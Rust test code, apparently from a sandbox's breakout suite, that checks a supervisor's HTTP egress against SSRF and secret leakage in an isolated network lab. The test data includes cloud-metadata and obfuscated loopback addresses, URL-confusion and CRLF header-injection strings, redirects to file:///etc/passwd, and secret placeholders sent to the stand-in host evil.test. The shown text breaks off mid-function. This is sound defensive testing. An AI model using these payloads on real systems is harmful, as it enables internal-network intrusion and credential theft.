//! The network cases (SSRF-*, SEC-*, RES-12; kind `network`): attacks on the
//! supervisor's HTTP host function, run in a network lab of their own (catalog
//! §2.4, [`crate::netlab`]).
//!
//! `agentbox breakout` re-executes itself as `agentbox __breakout-netlab`, which
//! enters a new network namespace (and user namespace when not root) while still
//! single-threaded, starts the fake services, and runs a production supervisor
//! whose egress client lives in that namespace. The requests are sent by the
//! native probe (`RELAY`), which plays a worker that escaped wasm: it speaks the
//! IPC protocol directly, so nothing on the worker side filters them first. Every
//! case asserts the refusal of each request *and* that the forbidden services'
//! hit counters stayed 0, then that an allowed request still works.
//!
//! The secrets used here are the lab's own: fresh random values written by the
//! parent to files that only it and the lab read. The parent also searches the
//! lab's whole stdout and stderr for them afterwards (SEC-10).

use crate::netlab::{self, Log};
use crate::runner::{AttemptResult, CaseResult, Status, note};
use agentbox_audit::AuditLog;
use agentbox_ipc::{Limit, Outcome};
use agentbox_policy::Manifest;
use agentbox_supervisor::{Options, RunOutput, Supervisor};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

/// The hidden subcommand the suite re-executes itself with.
pub const SUBCOMMAND: &str = "__breakout-netlab";

/// Secret files the parent writes for the lab (names inside the secrets dir).
const SECRET_FILES: [&str; 2] = ["token", "second"];

// ------------------------------------------------------------ parent side

/// Runs the network cases `ids` in a lab child; calls `progress` as each result
/// arrives. Every id gets a result: skipped (with the reason) when this host
/// cannot give the lab a network namespace, failed when the lab broke.
pub fn run_in_lab(
    ids: &[String],
    probe: Option<&Path>,
    mut progress: impl FnMut(&CaseResult),
) -> Vec<CaseResult> {
    let all = |status: Status, detail: String| -> Vec<CaseResult> {
        ids.iter()
            .map(|id| CaseResult {
                id: id.clone(),
                status,
                detail: detail.clone(),
                attempts: Vec::new(),
                layers: Vec::new(),
            })
            .collect()
    };
    let Some(probe) = probe else {
        return all(
            Status::Skipped,
            "the native probe `agentbox-probe` is not installed next to agentbox (pass --probe PATH)".into(),
        );
    };
    let secrets = match SecretsDir::new() {
        Ok(s) => s,
        Err(e) => {
            return all(
                Status::Failed,
                format!("cannot write the lab's secrets: {e}"),
            );
        }
    };
    let exe = match std::env::current_exe() {
        Ok(e) => e,
        Err(e) => return all(Status::Failed, format!("cannot find agentbox itself: {e}")),
    };
    let mut cmd = std::process::Command::new(exe);
    cmd.arg(SUBCOMMAND)
        .arg(probe)
        .arg(secrets.dir.path())
        .args(ids)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let uid = nix::unistd::geteuid().as_raw();
    if uid != 0 && std::env::var_os("AGENTBOX_CGROUP_PARENT").is_none() {
        // Inside its user namespace the lab is uid 0: keep it on this user's
        // delegated cgroup, not root's.
        cmd.env(
            "AGENTBOX_CGROUP_PARENT",
            agentbox_confine::cgroup::parent_name(),
        );
    }
    let mut child = match cmd.spawn() {
        Ok(c) => c,
        Err(e) => return all(Status::Failed, format!("cannot start the network lab: {e}")),
    };
    let stdout = child.stdout.take();
    // A lab that hangs (a supervisor bug) must not hang the suite: it is killed
    // after 10 minutes, and its unreported cases fail.
    let child = Arc::new(std::sync::Mutex::new(child));
    let done = Arc::new(std::sync::atomic::AtomicBool::new(false));
    {
        let (child, done) = (child.clone(), done.clone());
        std::thread::spawn(move || {
            let t0 = std::time::Instant::now();
            while !done.load(std::sync::atomic::Ordering::SeqCst) {
                if t0.elapsed() > Duration::from_secs(600) {
                    if let Ok(mut c) = child.lock()
                        && matches!(c.try_wait(), Ok(None))
                    {
                        let _ = c.kill();
                    }
                    return;
                }
                std::thread::sleep(Duration::from_millis(200));
            }
        });
    }
    let stderr = child
        .lock()
        .ok()
        .and_then(|mut c| c.stderr.take())
        .map(|mut e| {
            std::thread::spawn(move || {
                let mut s = Vec::new();
                let _ = std::io::Read::read_to_end(&mut e, &mut s);
                s
            })
        });
    let mut results: Vec<CaseResult> = Vec::new();
    let mut out_text = String::new();
    let mut skipped: Option<String> = None;
    if let Some(out) = stdout {
        use std::io::BufRead;
        for line in std::io::BufReader::new(out).lines().map_while(Result::ok) {
            out_text.push_str(&line);
            out_text.push('\n');
            if let Ok(r) = serde_json::from_str::<CaseResult>(&line) {
                progress(&r);
                results.push(r);
            } else if let Ok(v) = serde_json::from_str::<Value>(&line)
                && let Some(s) = v["skipped"].as_str()
            {
                skipped = Some(s.to_string());
            }
        }
    }
    let status = child.lock().map(|mut c| c.wait());
    done.store(true, std::sync::atomic::Ordering::SeqCst);
    let status = match status {
        Ok(Ok(s)) => format!("{s}"),
        _ => "unknown status".to_string(),
    };
    let err_bytes = stderr.and_then(|h| h.join().ok()).unwrap_or_default();
    let err_text = String::from_utf8_lossy(&err_bytes).to_string();
    if let Some(reason) = skipped {
        return all(
            Status::Skipped,
            format!("this host cannot give the lab a network namespace: {reason}"),
        );
    }
    // SEC-10: nothing the lab process printed may carry a secret, in any form.
    let leaks = secrets.leaks(&format!("{out_text}{err_text}"));
    for id in ids {
        if !results.iter().any(|r| &r.id == id) {
            let tail: String = err_text
                .lines()
                .rev()
                .take(5)
                .collect::<Vec<_>>()
                .join(" | ");
            let r = CaseResult {
                id: id.clone(),
                status: Status::Failed,
                detail: format!(
                    "the network lab ended ({status}) before this case reported: {tail}"
                ),
                attempts: Vec::new(),
                layers: Vec::new(),
            };
            progress(&r);
            results.push(r);
        }
    }
    if let Some(r) = results.iter_mut().find(|r| r.id == "SEC-10") {
        let leaked = leaks.iter().any(|l| !l.is_empty());
        r.attempts.push(AttemptResult {
            mode: "full".into(),
            attempt: "secret forms in the lab process's stdout and stderr".into(),
            verdict: if leaked { "escaped" } else { "blocked" }.into(),
            how: if leaked {
                leaks.join("; ")
            } else {
                format!("none in {} bytes", out_text.len() + err_text.len())
            },
        });
        if leaked {
            r.status = Status::Failed;
            r.detail = format!("secret in the lab's output: {}", leaks.join("; "));
        } else if r.status == Status::Passed {
            r.detail
                .push_str("; the lab process's stdout and stderr are clean");
        }
    }
    results
}

/// The lab's secret values, in files only this user can read.
struct SecretsDir {
    dir: tempfile::TempDir,
    values: Vec<String>,
}

impl SecretsDir {
    fn new() -> std::io::Result<Self> {
        use std::io::Read;
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::Builder::new()
            .prefix("agentbox-breakout-secrets-")
            .tempdir()?;
        let mut values = Vec::new();
        for (f, prefix) in SECRET_FILES.iter().zip(["tok_", "sec2_"]) {
            let mut raw = [0u8; 18];
            std::fs::File::open("/dev/urandom")?.read_exact(&mut raw)?;
            let v = format!("{prefix}{}", hex::encode(raw));
            let p = dir.path().join(f);
            std::fs::write(&p, format!("{v}\n"))?;
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600))?;
            values.push(v);
        }
        Ok(Self { dir, values })
    }

    fn leaks(&self, text: &str) -> Vec<String> {
        secret_forms(&self.values)
            .into_iter()
            .filter(|(f, _)| text.contains(f.as_str()))
            .map(|(_, what)| format!("a {what} form of a secret"))
            .collect()
    }
}

/// The oracle's own list, written independently of `agentbox_secrets::scrub::forms`
/// on purpose: a form the scrubber misses must not be missed by its test too.
/// Every form a secret may be reflected in: raw, hex (both cases), base64 (both
/// alphabets, at each of the three alignments it can have inside a longer
/// encoded text), percent-encoded (both cases). With the name of the form.
fn secret_forms(values: &[String]) -> Vec<(String, &'static str)> {
    use base64::Engine;
    let mut forms = Vec::new();
    for v in values {
        forms.push((v.clone(), "raw"));
        forms.push((hex::encode(v), "hex"));
        forms.push((hex::encode_upper(v), "HEX"));
        for e in [
            &base64::engine::general_purpose::STANDARD_NO_PAD,
            &base64::engine::general_purpose::URL_SAFE_NO_PAD,
        ] {
            for k in 0..3usize {
                // The value after k bytes of anything: drop the characters that
                // depend on those bytes, and the last, partial group.
                let mut buf = vec![0u8; k];
                buf.extend_from_slice(v.as_bytes());
                let enc = e.encode(&buf);
                let skip = (k * 4).div_ceil(3);
                let end = enc.len().saturating_sub(3);
                if end > skip + 8 {
                    forms.push((enc[skip..end].to_string(), "base64"));
                }
            }
        }
        forms.push((
            v.bytes().map(|c| format!("%{c:02X}")).collect(),
            "percent-encoded",
        ));
        forms.push((
            v.bytes().map(|c| format!("%{c:02x}")).collect(),
            "percent-encoded",
        ));
    }
    forms
}

// ------------------------------------------------------------- lab side

/// `agentbox __breakout-netlab PROBE SECRETS_DIR ID...`: enters the lab (first,
/// while single-threaded), runs the cases and prints one JSON result per line.
pub fn child_main() -> i32 {
    let args: Vec<String> = std::env::args().skip(2).collect();
    let (Some(probe), Some(secrets)) = (args.first(), args.get(1)) else {
        eprintln!("usage: agentbox {SUBCOMMAND} PROBE SECRETS_DIR ID...");
        return 125;
    };
    match netlab::enter(false) {
        Ok(_) => {}
        Err(netlab::EnterError::Unavailable(e)) => {
            println!("{}", json!({ "skipped": e }));
            return 0;
        }
        Err(e) => {
            eprintln!("agentbox: cannot set up the network lab: {e}");
            return 1;
        }
    }
    let lab = match Net::new(Path::new(probe), Path::new(secrets)) {
        Ok(l) => l,
        Err(e) => {
            eprintln!("agentbox: cannot set up the network lab: {e}");
            return 1;
        }
    };
    for id in &args[2..] {
        lab.reset();
        let mut res = CaseResult {
            id: id.clone(),
            status: Status::Skipped,
            detail: String::new(),
            attempts: Vec::new(),
            layers: Vec::new(),
        };
        let mut damage = Vec::new();
        match case_fn(id) {
            Some(f) => {
                if let Err(e) = f(&lab, &mut res) {
                    damage.push(e);
                }
                if let Err(e) = lab.forbidden_untouched() {
                    damage.push(e);
                }
                let alive = lab.allowed_request_works();
                crate::runner::summarize(&mut res, damage, alive);
            }
            None => {
                res.status = Status::Failed;
                res.detail = "no network case of that id".into();
            }
        }
        println!("{}", serde_json::to_string(&res).unwrap_or_default());
    }
    0
}

type CaseFn = fn(&Net, &mut CaseResult) -> Result<(), String>;

fn case_fn(id: &str) -> Option<CaseFn> {
    Some(match id {
        "SSRF-01" => ssrf01,
        "SSRF-02" => ssrf02,
        "SSRF-04" => ssrf04,
        "SSRF-06" => ssrf06,
        "SSRF-08" => ssrf08,
        "SSRF-09" => ssrf09,
        "SSRF-10" => ssrf10,
        "SSRF-13" => ssrf13,
        "SSRF-14" => ssrf14,
        "SEC-01" => sec01,
        "SEC-02" => sec02,
        "SEC-04" => sec04,
        "SEC-05" => sec05,
        "SEC-06" => sec06,
        "SEC-10" => sec10,
        "SEC-12" => sec12,
        "SEC-13" => sec13,
        "RES-12" => res12,
        "CAP-01" => |lab, res| cap_sockets(lab, res, false),
        "CAP-03" => |lab, res| cap_sockets(lab, res, true),
        _ => return None,
    })
}

/// The running lab: services, resolver, secrets and one supervisor.
struct Net {
    dir: tempfile::TempDir,
    sup: Supervisor,
    component: PathBuf,
    secrets: Vec<String>,
    /// The fake world's names and services.
    w: netlab::World,
    /// A supervisor with the production worker (CAP-01/03 run wasm components).
    wasm_sup: Supervisor,
    /// Whether the running case grants https://evil.test (SEC-06).
    evil_granted: std::cell::Cell<bool>,
}

impl Net {
    fn new(probe: &Path, secrets_dir: &Path) -> Result<Self, String> {
        let w = netlab::World::start(&[])?;
        let dir = tempfile::Builder::new()
            .prefix("agentbox-netlab-")
            .tempdir()
            .map_err(|e| e.to_string())?;
        let ca = dir.path().join("ca.pem");
        std::fs::write(&ca, &w.ca_pem).map_err(|e| e.to_string())?;
        // Secrets: the parent's files, loaded like `--secrets`.
        let mut values = Vec::new();
        for f in SECRET_FILES {
            let v =
                std::fs::read_to_string(secrets_dir.join(f)).map_err(|e| format!("{f}: {e}"))?;
            values.push(v.trim().to_string());
        }
        let store_file = dir.path().join("secrets.toml");
        std::fs::write(
            &store_file,
            format!(
                "[secrets.TOKEN]\nfile = {:?}\n[secrets.SECOND]\nfile = {:?}\n",
                secrets_dir.join("token").display().to_string(),
                secrets_dir.join("second").display().to_string()
            ),
        )
        .map_err(|e| e.to_string())?;
        let store = agentbox_secrets::SecretStore::load(&store_file).map_err(|e| e.to_string())?;
        let component = dir.path().join("probe.wasm");
        let bytes = wat::parse_str(crate::wasm::tool_wat(crate::wasm::OK, "", "1"))
            .map_err(|e| e.to_string())?;
        std::fs::write(&component, bytes).map_err(|e| e.to_string())?;
        let sup = Supervisor::new(&Options {
            cache_dir: Some(dir.path().join("cache")),
            worker_exe: Some(probe.to_path_buf()),
            // The tool runs on the probe; its component is compiled by agentbox.
            compile_exe: std::env::current_exe().ok(),
            extra_ca: Some(ca),
            resolver: Some(w.zone.clone()),
            secrets: Some(Arc::new(store)),
            ..Options::default()
        })
        .map_err(|e| e.to_string())?;
        let wasm_sup = Supervisor::new(&Options {
            cache_dir: Some(dir.path().join("cache")),
            resolver: Some(w.zone.clone()),
            ..Options::default()
        })
        .map_err(|e| e.to_string())?;
        let lab = Self {
            w,
            wasm_sup,
            evil_granted: std::cell::Cell::new(false),
            dir,
            sup,
            component,
            secrets: values,
        };
        Ok(lab)
    }
}

/// What one relayed run produced.
struct Relayed {
    answers: Vec<Value>,
    out: RunOutput,
    audit: Vec<Value>,
}

/// A net grant: (allow, methods, private).
type Grant<'a> = (&'a str, &'a [&'a str], bool);

fn get(url: &str) -> Value {
    json!({"method": "GET", "url": url, "timeout_ms": 3000})
}

fn with_header(method: &str, url: &str, name: &str, value: &str) -> Value {
    json!({
        "method": method,
        "url": url,
        "headers": [[name, value]],
        "body": if method == "POST" { Some("x") } else { None },
        "timeout_ms": 3000
    })
}

fn check(cond: bool, what: impl FnOnce() -> String) -> Result<(), String> {
    if cond { Ok(()) } else { Err(what()) }
}

/// The manifest lines binding the two lab secrets (catalog 3.6): TOKEN injected
/// as `Authorization: Bearer` toward https://api.allowed.test only; SECOND a
/// placeholder usable there.
const SEC_BINDINGS: &str = "[[tools.probe.secrets]]\nname = \"TOKEN\"\nallow = [\"https://api.allowed.test\"]\nheader = \"Authorization\"\nformat = \"Bearer {}\"\nrationale = \"breakout lab\"\n\
     [[tools.probe.secrets]]\nname = \"SECOND\"\nallow = [\"https://api.allowed.test\"]\nrationale = \"breakout lab\"\n";

const SEC_GRANTS: &[Grant<'static>] = &[
    ("https://api.allowed.test", &["GET", "POST"], false),
    ("http://api.allowed.test", &["GET"], false),
    ("https://allowed.test", &["GET"], false),
];

impl Net {
    fn reset(&self) {
        self.w.reset();
        self.evil_granted.set(false);
    }

    fn forbidden_untouched(&self) -> Result<(), String> {
        self.w.forbidden_untouched(self.evil_granted.get())
    }

    /// The "next invocation works" oracle: an allowed request through the same
    /// supervisor reaches the allowed server once.
    fn allowed_request_works(&self) -> Result<(), String> {
        let before = self.w.allowed.hits();
        let r = self.relay(
            &[("http://allowed.test", &["GET"], false)],
            "",
            vec![get("http://allowed.test/")],
            0,
        )?;
        check(
            r.answers.first().is_some_and(|a| a["status"] == 200)
                && self.w.allowed.hits() == before + 1,
            || {
                format!(
                    "an allowed request failed afterwards: {:?} ({})",
                    r.answers, r.out.report.detail
                )
            },
        )
    }

    /// One run of the probe relaying `requests` under a manifest with `grants`
    /// and `extra` TOML.
    fn relay(
        &self,
        grants: &[Grant<'_>],
        extra: &str,
        requests: Vec<Value>,
        linger_ms: u64,
    ) -> Result<Relayed, String> {
        let mut text = format!(
            "version = 1\n[tools.probe]\ncomponent = {:?}\nrationale = \"breakout network lab\"\n",
            self.component.display().to_string()
        );
        for (allow, methods, private) in grants {
            text.push_str(&format!(
                "[[tools.probe.net]]\nallow = {allow:?}\nmethods = {}\nprivate = {private}\nrationale = \"breakout lab\"\n",
                serde_json::to_string(methods).unwrap_or_default()
            ));
        }
        text.push_str(extra);
        if !extra.contains("[tools.probe.limits]") {
            text.push_str("[tools.probe.limits]\ntimeout = \"20s\"\n");
        }
        let path = self.dir.path().join("manifest.toml");
        let manifest = Manifest::parse(&path, &text, self.dir.path()).map_err(|e| e.to_string())?;
        let tool = manifest.tool(Some("probe"))?.clone();
        let ctx = json!({ "requests": requests, "linger_ms": linger_ms }).to_string();
        let inv = agentbox_host::Invocation {
            input: "{}".into(),
            args: vec!["RELAY".into(), "0".into(), ctx],
            ..Default::default()
        };
        let audit = Arc::new(AuditLog::memory("breakout-net"));
        let out = self.sup.run(&manifest, &tool, &inv, audit.clone());
        let answers = serde_json::from_slice::<Value>(&out.stdout)
            .ok()
            .and_then(|v| v["detail"].as_str().map(str::to_string))
            .and_then(|d| serde_json::from_str::<Value>(&d).ok())
            .and_then(|v| v.as_array().cloned())
            .unwrap_or_default();
        let audit = audit
            .lines()
            .iter()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect();
        Ok(Relayed {
            answers,
            out,
            audit,
        })
    }

    /// Relays `requests` and records one attempt per request, blocked when its
    /// answer is the error `want`.
    fn expect_all(
        &self,
        res: &mut CaseResult,
        grants: &[Grant<'_>],
        extra: &str,
        requests: Vec<Value>,
        want: &str,
    ) -> Result<Relayed, String> {
        let r = self.relay(grants, extra, requests.clone(), 0)?;
        for (i, req) in requests.iter().enumerate() {
            let a = r.answers.get(i).cloned().unwrap_or(Value::Null);
            record(res, req, &a, a["error"] == want);
        }
        Ok(r)
    }

    /// A problem when `text` holds any form of a lab secret.
    fn no_secret(&self, text: &str, label: &str) -> Result<(), String> {
        for (f, what) in secret_forms(&self.secrets) {
            if text.contains(&f) {
                return Err(format!("{label} carries a {what} form of a lab secret"));
            }
        }
        Ok(())
    }

    /// Nothing of a secret in what left the supervisor for the caller or reached
    /// the worker.
    fn nothing_leaked(&self, r: &Relayed) -> Result<(), String> {
        self.no_secret(&String::from_utf8_lossy(&r.out.stdout), "the tool's stdout")?;
        self.no_secret(&String::from_utf8_lossy(&r.out.stderr), "the tool's stderr")?;
        self.no_secret(
            &serde_json::to_string(&r.out.report).unwrap_or_default(),
            "the report",
        )?;
        self.no_secret(
            &serde_json::to_string(&r.audit).unwrap_or_default(),
            "the audit log",
        )?;
        self.no_secret(
            &serde_json::to_string(&r.answers).unwrap_or_default(),
            "the worker's answers",
        )
    }
}

/// One request as an attempt.
fn record(res: &mut CaseResult, req: &Value, answer: &Value, blocked: bool) {
    let mut name = format!(
        "{} {}",
        req["method"].as_str().unwrap_or("?"),
        req["url"].as_str().unwrap_or("?")
    );
    if let Some(h) = req["headers"].as_array().and_then(|h| h.first()) {
        name.push_str(&format!(
            " [{}: {}]",
            h[0].as_str().unwrap_or(""),
            h[1].as_str().unwrap_or("")
        ));
    }
    if let Some(b) = req["body"].as_str().filter(|b| b.len() > 1) {
        name.push_str(&format!(" body {b:?}"));
    }
    let name: String = name
        .chars()
        .map(|c| if c.is_control() { '·' } else { c })
        .take(100)
        .collect();
    let how = match answer["error"].as_str() {
        Some(e) => format!("{e}: {}", answer["reason"].as_str().unwrap_or("")),
        None if answer.is_null() => "no answer".into(),
        None => format!("status {}", answer["status"]),
    };
    res.attempts.push(AttemptResult {
        mode: "full".into(),
        attempt: name,
        verdict: if blocked { "blocked" } else { "escaped" }.into(),
        how: how.chars().take(160).collect(),
    });
}

fn gets(urls: &[&str]) -> Vec<Value> {
    urls.iter().map(|u| get(u)).collect()
}

fn audit_reasons(r: &Relayed) -> Vec<String> {
    r.audit
        .iter()
        .filter(|e| e["event"] == "http_request")
        .map(|e| e["reason"].as_str().unwrap_or("").to_string())
        .collect()
}

/// Waits until `log` has `n` hits (the requests are in flight or done).
fn wait_hits(log: &Log, n: u32) -> Result<(), String> {
    let t0 = std::time::Instant::now();
    while log.hits() < n {
        if t0.elapsed() > Duration::from_secs(15) {
            return Err("the secret-bearing request never arrived".into());
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    Ok(())
}

// ------------------------------------------------------------------ SSRF

fn ssrf01(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let targets = [
        ("http://169.254.169.254", "/latest/meta-data/"),
        ("http://169.254.170.2", "/v2/credentials"),
        ("http://[fd00:ec2::254]", "/"),
        ("http://100.100.100.200", "/"),
        ("http://metadata.google.internal", "/computeMetadata/v1/"),
        ("http://127.0.0.1:8080", "/"),
        ("http://[::1]:8080", "/"),
        ("http://0.0.0.0", "/"),
        ("http://10.0.0.1", "/"),
    ];
    // Each target is granted: the address check, not the grant, must refuse it.
    let grants: Vec<Grant<'_>> = targets
        .iter()
        .map(|(g, _)| (*g, &["GET"][..], false))
        .collect();
    let urls: Vec<String> = targets.iter().map(|(g, p)| format!("{g}{p}")).collect();
    let r = lab.expect_all(
        res,
        &grants,
        "",
        urls.iter().map(|u| get(u)).collect(),
        "denied",
    )?;
    check(r.out.report.http.denied as usize == urls.len(), || {
        format!("the report counts {} denied", r.out.report.http.denied)
    })?;
    check(lab.w.loopback.hits() == 0, || {
        "the loopback listener was reached".into()
    })
}

fn ssrf02(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let grants: &[Grant<'_>] = &[
        ("http://169.254.169.254", &["GET"], false),
        ("http://127.0.0.1:8080", &["GET"], false),
    ];
    lab.expect_all(
        res,
        grants,
        "",
        gets(&[
            "http://2852039166/",
            "http://0xA9FEA9FE/",
            "http://0251.0376.0251.0376/",
            "http://169.254.43518/",
            "http://0xa9.254.0251.0xfe/",
            "http://127.1:8080/",
            "http://0x7f.1:8080/",
            "http://017700000001:8080/",
        ]),
        "denied",
    )?;
    check(lab.w.loopback.hits() == 0, || {
        "the loopback listener was reached".into()
    })
}

fn ssrf04(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let grants: &[Grant<'_>] = &[("http://*.allowed.test", &["GET"], false)];
    let r = lab.expect_all(
        res,
        grants,
        "",
        gets(&[
            "http://rebind.allowed.test/",
            "http://loop.allowed.test:80/",
            "http://internal.allowed.test/",
            "http://mixed.allowed.test/",
        ]),
        "denied",
    )?;
    check(lab.w.allowed.hits() == 0, || {
        "the mixed set's public address was used".into()
    })?;
    let reasons = audit_reasons(&r);
    check(
        reasons
            .iter()
            .any(|x| x.contains("169.254.169.254, a cloud metadata address")),
        || format!("the audit log does not name the metadata address: {reasons:?}"),
    )?;
    // Rebinding: a name flipping between a public and a loopback answer. Each
    // request is resolved once and sent only to the address that was checked.
    let r = lab.relay(
        grants,
        "",
        (0..6).map(|_| get("http://flip.allowed.test/")).collect(),
        0,
    )?;
    let ok = r.answers.iter().filter(|x| x["status"] == 200).count();
    let denied = r.answers.iter().filter(|x| x["error"] == "denied").count();
    note(
        res,
        "6 requests to a name flipping between 203.0.113.10 and 127.0.0.1 (TTL 0)",
        if ok + denied == 6 && ok >= 1 && denied >= 1 && lab.w.allowed.hits() as usize == ok {
            Ok(format!(
                "{ok} answered from the checked public address, {denied} denied (loopback)"
            ))
        } else {
            Err(format!(
                "{ok} ok, {denied} denied, {} hits: {:?}",
                lab.w.allowed.hits(),
                r.answers
            ))
        },
    );
    check(lab.w.loopback.hits() == 0, || {
        "the loopback listener was reached".into()
    })
}

fn ssrf14(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let r = lab.expect_all(
        res,
        &[("http://*.allowed.test", &["GET"], false)],
        "",
        gets(&["http://dual.allowed.test/", "http://ula.allowed.test/"]),
        "denied",
    )?;
    check(lab.w.allowed.hits() == 0, || {
        "the A record's address was used for a name with an internal AAAA".into()
    })?;
    let reasons = audit_reasons(&r);
    check(
        reasons
            .iter()
            .any(|x| x.contains("fd00::1, a unique-local address")),
        || format!("the audit log does not name the AAAA address: {reasons:?}"),
    )
}

fn ssrf06(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let grants: &[Grant<'_>] = &[("https://allowed.test", &["GET"], false)];
    lab.expect_all(
        res,
        grants,
        "",
        gets(&[
            "https://allowed.test@evil.test/",
            "https://allowed.test:443@evil.test/",
            "https://evil.test\\@allowed.test/",
            "https://evil.test#@allowed.test",
            "https://evil.test\t.allowed.test/",
            "https://allowed.test\r\n.evil.test/",
        ]),
        "invalid-request",
    )?;
    // `?@` keeps evil.test as the host: no grant covers it.
    lab.expect_all(
        res,
        grants,
        "",
        gets(&["https://evil.test?@allowed.test"]),
        "denied",
    )?;
    check(lab.w.allowed_tls.hits() == 0, || {
        "allowed.test was reached through a confused URL".into()
    })
}

fn ssrf08(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let grants: &[Grant<'_>] = &[("http://allowed.test", &["GET", "POST"], false)];
    let to = |t: &str, code: u16| get(&format!("http://allowed.test/redirect?code={code}&to={t}"));
    let r = lab.expect_all(
        res,
        grants,
        "",
        vec![
            to("http://169.254.169.254/", 302),
            to("http://evil.test/", 301),
            to("https://allowed.test/", 307),
            to("file:///etc/passwd", 302),
            to("data:text/plain,x", 308),
            to("//evil.test/", 303),
            to("http://2852039166/", 302),
            get("http://allowed.test/loop/0"),
        ],
        "denied",
    )?;
    let hops = r
        .audit
        .iter()
        .filter(|e| e["event"] == "http_request" && e["redirect"] == 1 && e["decision"] == "denied")
        .count();
    check(hops == 7, || {
        format!("{hops} first redirect hop(s) audited as denied, expected 7")
    })?;
    // A redirect within the grant is followed (positive control).
    let r = lab.relay(grants, "", vec![to("/echo", 302)], 0)?;
    check(
        r.answers.first().is_some_and(|a| a["status"] == 200),
        || {
            format!(
                "a redirect within the grant was not followed: {:?}",
                r.answers
            )
        },
    )
}

fn ssrf09(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let grants: &[Grant<'_>] = &[("https://api.allowed.test", &["GET"], false)];
    lab.expect_all(
        res,
        grants,
        "",
        gets(&[
            "gopher://api.allowed.test/",
            "file:///etc/passwd",
            "ftp://api.allowed.test/",
            "ws://api.allowed.test/",
            "http+unix://%2Ftmp%2Fs/",
            "https://api.allowed.test:0/",
            "https://api.allowed.test:65536/",
        ]),
        "invalid-request",
    )?;
    lab.expect_all(
        res,
        grants,
        "",
        gets(&[
            "https://api.allowed.test:6379/",
            "http://api.allowed.test:6379/",
            "https://api.allowed.test:22/",
            "http://api.allowed.test/",
        ]),
        "denied",
    )?;
    check(lab.w.api_http.hits() == 0, || {
        "http://api.allowed.test was reached".into()
    })
}

fn ssrf10(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let grants: &[Grant<'_>] = &[("http://allowed.test", &["GET", "POST"], false)];
    let u = "http://allowed.test/echo";
    lab.expect_all(
        res,
        grants,
        "",
        vec![
            with_header("POST", u, "Host", "evil.test"),
            with_header("POST", u, "X-Forwarded-Host", "evil.test"),
            with_header("POST", u, "Connection", "upgrade"),
            with_header("POST", u, "Proxy-Authorization", "Basic eA=="),
            with_header("POST", u, "Upgrade", "h2c"),
            with_header("POST", u, "TE", "trailers"),
            with_header("POST", u, "Keep-Alive", "timeout=600"),
            with_header("POST", u, "HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"),
            json!({"method": "GET http://evil.test/ HTTP/1.1\r\nX:", "url": "http://allowed.test/"}),
        ],
        "invalid-request",
    )?;
    check(lab.w.allowed.hits() == 0, || {
        format!(
            "the allowed server parsed a request: {}",
            lab.w.allowed.text()
        )
    })?;
    // Host comes from the vetted URL (positive control).
    let r = lab.relay(grants, "", vec![get(u)], 0)?;
    let body = r
        .answers
        .first()
        .and_then(|a| a["body"].as_str())
        .unwrap_or("")
        .to_ascii_lowercase();
    check(body.contains("host: allowed.test\r\n"), || {
        format!("Host was not taken from the URL: {body:?}")
    })
}

fn ssrf13(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let grants: &[Grant<'_>] = &[("http://allowed.test", &["GET", "POST"], false)];
    let u = "http://allowed.test/echo";
    lab.expect_all(
        res,
        grants,
        "",
        vec![
            with_header("POST", u, "x-a", "v\r\nHost: evil.test"),
            with_header("POST", u, "x-a\r\nHost", "v"),
            with_header("POST", u, "x-a", "v\0"),
            with_header("POST", u, "x-a", "v\r\n continued"),
            with_header("POST", u, "Transfer-Encoding", "chunked"),
            with_header("POST", u, "Content-Length", "0"),
            json!({"method": "GET /admin HTTP/1.1\r\nHost: evil.test\r\n\r\nGET", "url": "http://allowed.test/"}),
            json!({"method": "CONNECT", "url": "http://allowed.test/"}),
            get("http://allowed.test/a\r\nHost: evil.test"),
        ],
        "invalid-request",
    )?;
    check(lab.w.allowed.hits() == 0, || {
        format!(
            "the allowed server parsed a request: {}",
            lab.w.allowed.text()
        )
    })
}

// ------------------------------------------------------------------- SEC

fn sec01(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    // The probe makes two secret-bearing requests whose answers echo the request
    // back, then stays alive while every readable page of it is searched.
    let forms: Vec<Vec<u8>> = secret_forms(&lab.secrets)
        .into_iter()
        .map(|(f, _)| f.into_bytes())
        .collect();
    let api = lab.w.api_tls.clone();
    let scan = std::thread::spawn(move || -> Result<String, String> {
        wait_hits(&api, 2)?;
        std::thread::sleep(Duration::from_millis(300));
        // The probe holds its requests: their URL is the search's control.
        crate::scan::search_workers(&forms, b"api.allowed.test/echo-encoded")
    });
    let r = lab.relay(
        SEC_GRANTS,
        SEC_BINDINGS,
        vec![
            get("https://api.allowed.test/echo"),
            get("https://api.allowed.test/echo-encoded"),
        ],
        3000,
    )?;
    let scanned = scan
        .join()
        .map_err(|_| "the scanner panicked".to_string())?;
    check(lab.w.api_tls.text().contains(&lab.secrets[0]), || {
        "the request did not carry the token (no positive control)".into()
    })?;
    note(
        res,
        "search the worker's memory, environment and arguments for the secret",
        scanned,
    );
    note(
        res,
        "read the secret from the echoed answers",
        lab.no_secret(
            &serde_json::to_string(&r.answers).unwrap_or_default(),
            "the answers",
        )
        .map(|()| "scrubbed before the worker saw them".into()),
    );
    Ok(())
}

fn sec02(lab: &Net, res: &mut CaseResult) -> Result<(), String> {
    let mut grants = SEC_GRANTS.to_vec();
    grants.push(("https://evil.test", &["GET", "POST"], false));
    let e = "https://evil.test/echo";
    let r = lab.expect_all(
        res,
        &grants,
        SEC_BINDINGS,
        vec![
            with_header("GET", e, "X-Key", "{{secret:SECOND}}"),
            with_header("GET", e, "Authorization", "Bearer {{secret:TOKEN}}"),
